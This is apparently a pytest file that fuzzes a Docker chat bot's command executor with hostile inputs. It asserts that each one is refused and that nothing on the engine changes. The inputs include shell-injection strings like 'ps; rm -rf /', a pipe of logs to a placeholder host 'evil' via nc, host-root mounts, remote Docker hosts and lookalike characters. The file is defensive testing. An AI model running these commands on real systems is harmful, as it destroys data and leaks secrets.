"""A battery of hostile inputs against a real engine, then proof that nothing changed."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import docker
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.errors import ExecError, ExecRefused
from bot.executor import ExecResult, Executor, Principal

pytestmark = pytest.mark.docker

WEB, CHATTY, IDLE, VOLUME = "dockbot-web", "dockbot-chatty", "dockbot-idle", "dockbot-data"
MUTATING = (
    "run", "exec", "rm", "rmi", "kill", "stop", "start", "restart", "pause", "unpause", "create",
    "cp", "commit", "build", "pull", "push", "tag", "login", "logout", "prune", "update",
    "rename", "attach", "wait", "export", "import", "save", "load",
    "history", "events", "plugin", "swarm", "service", "stack", "secret", "config", "node",
    "context", "compose", "trust", "manifest", "checkpoint", "builder", "search",
)
GROUP_MUTATIONS = (
    "container rm", "container kill", "container stop", "container start", "container exec",
    "container prune", "container update", "container rename", "container cp",
    "container attach", "container commit", "container export", "container run",
    "container create", "container restart", "container pause", "container wait",
    "image rm", "image prune", "image pull", "image push", "image tag", "image save",
    "image load", "image import", "image build", "image history", "image inspect",
    "volume rm", "volume prune", "volume create", "volume inspect",
    "network rm", "network prune", "network create", "network connect", "network disconnect",
    "network inspect", "system prune", "system events", "builder prune",
)
HAND: list[str] = [
    # shell syntax
    "ps; rm -rf /", f"ps && docker rm -f {WEB}", "ps || reboot", "ps | sh", "ps `reboot`",
    f"ps $(docker kill {WEB})", "ps > /etc/passwd", "ps < /dev/zero", "ps & disown",
    f"ps\nrm {WEB}", f"ps\r\nkill {WEB}", "ps #", "ps 'a'", 'ps "a"', "ps \\", "ps *",
    "ps ?", "ps ~", "ps !!", "ps {a,b}", "ps [a]", "ps %s", "ps ^", "ps ,", "ps +",
    "$HOME", "${IFS}ps", "ps$IFS-a", f"inspect {WEB};id", f"logs {WEB}|nc evil 1",
    "ps\t-a", "ps\x00", "ps\x1b[2J",
    # every mutating subcommand, plain and grouped
    *[f"{verb} {WEB}" for verb in MUTATING],
    *[f"docker {verb} -f {WEB}" for verb in MUTATING],
    *[f"{group} {WEB}" for group in GROUP_MUTATIONS],
    "run --rm -v /:/host dockbot-test/busybox:1 sh", "system prune -af --volumes",
    "image prune -a -f", f"volume rm {VOLUME}", "network rm none", "sudo docker ps",
    "docker docker ps", f"start {IDLE}", f"update --memory 1m {WEB}",
    # unicode lookalikes, invisible and control characters
    "ｐｓ", "\u0440s", "p\u0455", "ps\u200b", "p\u200ds", "ps\u2060", "\u202eps", "ps\u00ad",
    "ps \u2014a", "ps \u2013a", "inspect dockbot\u2011web", "ps\u3000", "ps\u00a0-a",
    f"logs {WEB} \uff0d\uff0dtail 5", f"ｒｍ {WEB}", "ᴘs", "ps\ufe0f", "ps\U000e0001",
    "ps\u180e", "\ufeffps", "ps\u2028", "ps\u0085", f"inspect {WEB}\u0301", "ps\u3164",
    "ps ⁄ a", "ℙs", "𝐩𝐬", "ps ͏",
    # path tricks in names
    f"inspect ../../containers/{WEB}/kill", f"inspect {WEB}/../../../v1.41/containers/{WEB}/stop",
    "inspect %2e%2e%2fkill", "logs ..%2f..%2fexec", f"inspect {WEB}?force=1",
    f"inspect {WEB}#x", "inspect .", "inspect ..", f"inspect ./{WEB}", f"stats {WEB}/../kill",
    f"inspect {WEB}%00", f"inspect -{WEB}", f"inspect _{WEB}", f"logs .{WEB}",
    f"inspect {WEB}:latest", f"inspect {WEB}@sha256", "inspect a" + "b" * 200,
    # huge input
    "ps " + "-a " * 10000, "x" * 100000, "inspect " + "a" * 5000, "\u200b" * 1000,
    # flags that widen scope or stream
    "ps -H tcp://evil:2375", "ps --host unix:///var/run/docker.sock", "--context prod ps",
    "ps --format '{{json .}}'", "ps --format {{.Env}}",
    f"inspect --format {{{{.Config.Env}}}} {WEB}",
    "ps --filter label=api_token=canary", "ps -f name=web", "ps --filter=name=web",
    f"logs -f {WEB}", f"logs --follow {WEB}", f"logs --since 1970-01-01 {WEB}",
    f"logs --tail 100000 {WEB}", f"logs --tail all {WEB}", f"logs {WEB} --timestamps",
    "stats --all", "stats -a", "ps --size", "ps -s", "ps --latest", "ps -n 5",
    "images --all", "images --digests", "images -q", "volume ls -f dangling=true",
    "network ls --no-trunc", "ps @../../x", "ps @prod@dev", "ps @", "info --format {{.Swarm}}",
    "ps --config /root/.docker", "ps -D", "ps --log-level debug", "version --tls",
    "ps --tlsverify=false", "df -v", "system df --verbose", "version --format json",
    f"stats {WEB} {CHATTY}", f"inspect {WEB} {CHATTY}", f"logs {WEB} {CHATTY}", "ps -- -a",
    # empty and near-empty
    "", " ", "\n", "docker", "@local", "-a", "--", "/docker ps",
]
FORBIDDEN_EVENTS = {
    "create", "destroy", "kill", "stop", "die", "start", "restart", "pause", "unpause",
    "rename", "update", "attach", "commit", "copy", "export", "import", "load", "save",
    "pull", "push", "tag", "untag", "delete", "remove", "prune", "connect", "disconnect",
    "mount", "unmount", "exec_create", "exec_start", "exec_die", "exec_detach",
}
VALID = ("ps", "ps -a", "images", "info", "version", "df", "volume ls", "network ls",
         f"inspect {WEB}", f"logs {WEB} --tail 5", "docker container ls -a", "image ls",
         "ps -a -q", "ps -aq", f"top {WEB}", f"port {WEB}", f"diff {WEB}",
         "events --since 1h", f"logs {WEB} --tail 5 --tail 6", "ps --host local")
BAD_CHARS = [
    *";&|`$()<>'\"\\*?!#~{}[]%^,+/:\x00\x1b\x7f",
    "\u200b", "\u200d", "\u2060", "\u202e", "\ufeff", "\u00ad", "\u00a0", "\u3000",
    "\u2013", "\u2014", "\uff50", "\uff53", "\u0430", "\u0440", "\u0455", "\u043e", "\u2028",
    "\u3164", "\U000e0001", "\u0301",
]


def _snapshot(api: Any) -> dict[str, Any]:
    return {
        "containers": sorted((c["Id"], tuple(c["Names"]), c["State"], c["Image"])
                             for c in api.containers(all=True)),
        "images": sorted(i["Id"] for i in api.images(all=True)),
        "volumes": sorted(v["Name"] for v in api.volumes()["Volumes"] or []),
        "networks": sorted(n["Id"] for n in api.networks()),
    }


def _events(api: Any, since: int, until: int) -> list[dict[str, Any]]:
    while time.time() < until + 0.2:           # `until` in the future would block
        time.sleep(0.1)
    return list(api.events(since=since, until=until, decode=True))


def _next_second() -> int:
    time.sleep(1.05 - time.time() % 1)
    return int(time.time())


def test_bad_input_battery_changes_nothing(
    make_executor: Callable[..., Executor], docker_containers: Any, admin: Principal,
    read_audit: Callable[[], list[dict[str, Any]]],
) -> None:
    ex = make_executor(docker_containers.url)
    api = docker.APIClient(base_url=docker_containers.url, version="1.41", timeout=30)
    before = _snapshot(api)
    assert {c[2] for c in before["containers"] if WEB in c[1][0] or CHATTY in c[1][0]} == {
        "running"}
    outcomes: dict[str, int] = {"refused": 0, "other_error": 0, "ok": 0}

    def attempt(text: str, must_refuse: bool) -> None:
        try:
            res = ex.run(text, admin)
        except ExecRefused:
            outcomes["refused"] += 1
            return
        except ExecError:
            assert not must_refuse, text
            outcomes["other_error"] += 1
            return
        assert not must_refuse, f"accepted: {text!r}"
        assert isinstance(res, ExecResult)
        outcomes["ok"] += 1

    since = _next_second()
    for text in HAND:
        attempt(text, must_refuse=True)

    @settings(max_examples=120, deadline=None, database=None,
              suppress_health_check=list(HealthCheck))
    @given(st.text(max_size=80))
    def random_text(text: str) -> None:
        attempt(text, must_refuse=False)

    @settings(max_examples=120, deadline=None, database=None,
              suppress_health_check=list(HealthCheck))
    @given(st.sampled_from(VALID), st.integers(min_value=0, max_value=40),
           st.sampled_from(BAD_CHARS))
    def poisoned_valid(text: str, pos: int, bad: str) -> None:
        pos = min(pos, len(text))
        attempt(text[:pos] + bad + text[pos:], must_refuse=True)

    @settings(max_examples=120, deadline=None, database=None,
              suppress_health_check=list(HealthCheck))
    @given(st.sampled_from(MUTATING + GROUP_MUTATIONS),
           st.lists(st.sampled_from([WEB, CHATTY, IDLE, VOLUME, "-f", "-a", "--force", "none",
                                     "dockbot-test/busybox:1", "@local", "-it", "sh"]),
                    max_size=4),
           st.booleans())
    def mutating(verb: str, args: list[str], prefix: bool) -> None:
        text = " ".join((["docker"] if prefix else []) + [verb, *args])
        attempt(text, must_refuse=True)

    random_text()
    poisoned_valid()
    mutating()
    until = int(time.time()) + 1
    total = sum(outcomes.values())
    assert total >= 200 + len(HAND) // 2, outcomes
    assert outcomes["refused"] >= len(HAND) + 200

    after = _snapshot(api)
    assert after == before
    states = {c[1][0].lstrip("/"): c[2] for c in after["containers"]}
    assert states[WEB] == states[CHATTY] == "running" and states[IDLE] == "created"
    events = _events(api, since, until)
    bad = [(e.get("Type"), e.get("Action")) for e in events
           if str(e.get("Action", "")).split(":")[0] in FORBIDDEN_EVENTS]
    assert bad == []
    assert [e for e in events if e.get("Type") in ("container", "image", "volume",
                                                   "network")] == []
    assert len(read_audit()) == total

    # The events check can fail: the same query sees a create/destroy when one happens.
    probe_since = _next_second()
    probe = api.create_container("dockbot-test/busybox:1", ["true"], name="dockbot-probe",
                                 host_config=api.create_host_config(network_mode="none"))
    api.remove_container(probe["Id"], force=True)
    probe_events = _events(api, probe_since, int(time.time()) + 1)
    assert {"create", "destroy"} <= {e.get("Action") for e in probe_events}
    api.close()
